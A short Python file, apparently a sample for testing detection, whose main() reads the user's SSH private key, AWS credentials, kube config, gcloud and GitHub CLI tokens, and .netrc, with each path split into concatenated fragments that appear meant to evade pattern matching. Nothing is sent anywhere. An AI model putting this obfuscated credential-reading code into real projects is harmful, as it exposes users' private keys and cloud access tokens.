import os
from os.path import expanduser, join
from pathlib import Path


def main():
    open(os.path.join(os.path.expanduser("~"), "." + "ssh", "id_" + "rsa"))
    (Path.home() / (".a" + "ws") / "cred".__add__("entials")).read_text()
    Path("~", ".ku" + "be", "con" + "fig").expanduser().read_bytes()
    for name in ("gcloud", "gh"):
        open(join(expanduser("~"), ".con" + "fig", name, "hosts.yml"))
    Path(os.environ["HOME"]).joinpath(".net" + "rc").open()
